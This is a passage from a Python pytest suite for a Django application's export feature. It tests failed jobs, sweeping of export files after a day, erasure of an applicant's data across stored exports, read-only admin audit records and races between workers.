    assert (export.state, export.leased_until, export.query) == ("queued", None, "")
    assert list((data_folder / "incoming").iterdir()) == []
    assert make() == 1


def test_a_fault_is_logged_shown_and_leaves_nothing_behind(
    browser, application, long_ones, monkeypatch, caplog, stored_files, data_folder
):
    export = ask(browser, q="Ada")

    def fail(*args, **kwargs):
        raise OSError("disk full")

    monkeypatch.setattr(jobs, "write_table", fail)
    assert make() == 0

    export.refresh_from_db()
    assert (export.state, export.query) == ("failed", "")
    assert "disk full" in caplog.text
    assert "could not be made" in browser.get(job_page(export)).content.decode()
    assert browser.get(file_page(export)).status_code == 404
    assert export_files(stored_files) == []
    assert list((data_folder / "incoming").iterdir()) == []


@pytest.mark.django_db(transaction=True)
def test_the_worker_makes_exports_and_sweeps_them(browser, application, long_ones, stored_files):
    export = ask(browser)
    call_command("run_worker", "--once")
    assert export_files(stored_files) == [f"{export.pk.hex}.csv"]

    Export.objects.update(finished_at=timezone.now() - datetime.timedelta(hours=25))
    call_command("run_worker", "--once")

    assert export_files(stored_files) == []


# Removing


def test_a_file_is_removed_after_a_day_and_the_record_stays(browser, application, long_ones, stored_files):
    export = ask(browser)
    make()
    now = timezone.now()

    assert exports.sweep(now + datetime.timedelta(hours=23)) == 0
    assert len(export_files(stored_files)) == 1
    assert exports.sweep(now + datetime.timedelta(hours=25)) == 1

    export.refresh_from_db()
    assert (export.state, export.total) == ("removed", 1)
    assert export_files(stored_files) == []
    assert browser.get(file_page(export)).status_code == 404
    assert "no longer here" in browser.get(job_page(export)).content.decode()


def test_documents_are_no_exports_and_exports_no_stray_documents(browser, application, long_ones, stored_files):
    ask(browser)
    make()
    everything = stored_files()

    exports.sweep()
    documents.sweep(timezone.now() + datetime.timedelta(hours=25))

    assert stored_files() == everything


def test_files_that_a_killed_process_left_behind_are_swept(browser, application, long_ones, stored_files):
    ask(browser)
    make()
    Export.objects.update(state="removed")
    document_storage().save("exports/0123.zip", ContentFile(b"whose?"))

    assert exports.sweep() == 2
    assert export_files(stored_files) == []


def test_what_could_not_be_made_in_a_day_is_given_up_with_its_filters(browser, application, long_ones):
    export = ask(browser, q="Ada")

    exports.sweep(timezone.now() + datetime.timedelta(hours=25))

    export.refresh_from_db()
    assert (export.state, export.query) == ("failed", "")


@pytest.mark.django_db(transaction=True)
def test_erasing_an_application_removes_every_file_that_may_hold_it(
    browser, make_application, long_ones, stored_files, signed_in, superuser
):
    ada, bob = make_application(full_name="Ada Example"), make_application(email="bob@example.org")
    ready = [ask(browser, export_format) for export_format in FORMATS] + [ask(signed_in(superuser))]
    while make():
        pass
    assert len(export_files(stored_files)) == 4

    workflow.erase(ada)

    assert export_files(stored_files) == []
    for export in ready:
        export.refresh_from_db()
        assert export.state == "removed"
    assert all(document_storage().exists(document.file.name) for document in bob.documents.all())


@pytest.mark.django_db(transaction=True)
def test_an_erasure_while_an_export_is_made_lets_it_begin_again(browser, make_application, long_ones, stored_files):
    ada, bob = make_application(), make_application(email="bob@example.org")
    export = ask(browser)
    erased = []

    def erase_in_the_middle() -> bool:
        if not erased:
            erased.append(workflow.erase(ada))
        return False

    assert make(stopping=erase_in_the_middle) == 0
    assert export_files(stored_files) == []
    assert make() == 1

    assert references(body(browser.get(file_page(export))), "csv") == [bob.reference]


@pytest.mark.django_db(transaction=True)
def test_an_erasure_that_is_rolled_back_removes_no_export(browser, application, long_ones, stored_files):
    ask(browser)
    make()
    with transaction.atomic():
        workflow.erase(application)
        transaction.set_rollback(True)

    assert len(export_files(stored_files)) == 1


# The record


def test_superusers_read_who_took_out_what_and_change_nothing(signed_in, superuser, supervisor, application):
    take_out(signed_in(supervisor), "csv")
    export = Export.objects.get()
    browser = signed_in(superuser)

    page = browser.get(reverse("admin:applications_export_changelist")).content.decode()

    assert "sofia" in page
    assert "Sent at once" in page
    assert browser.get(reverse("admin:applications_export_change", args=[export.pk])).status_code == 200
    for address in ("change", "delete"):
        url = reverse(f"admin:applications_export_{address}", args=[export.pk])
        assert browser.post(url, {"post": "yes", "total": 5}).status_code == 403
    assert browser.post(reverse("admin:applications_export_add"), {}).status_code == 403
    assert Export.objects.get().total == 1
    assert "delete_selected" not in page


def test_a_late_worker_takes_nothing_away_that_another_one_has_finished(browser, application, long_ones, stored_files):
    export = ask(browser)
    late = jobs.Claim.of(export.pk)
    exports.forget_after_erasure()
    assert make() == 1
    finished = export_files(stored_files)

    with pytest.raises(jobs.Lost):
        jobs._finish(late, set())

    assert export_files(stored_files) == finished != []


def test_what_must_not_wait_is_done_while_a_long_export_is_made(browser, make_application, long_ones, monkeypatch):
    for number in range(3):
        make_application(email=f"p{number}@example.org")
    monkeypatch.setattr(jobs, "TELL_EVERY", 0)
    ask(browser)
    done = []

    assert make(meanwhile=lambda: done.append(Export.objects.get().state)) == 1

    assert done == ["running"] * 3
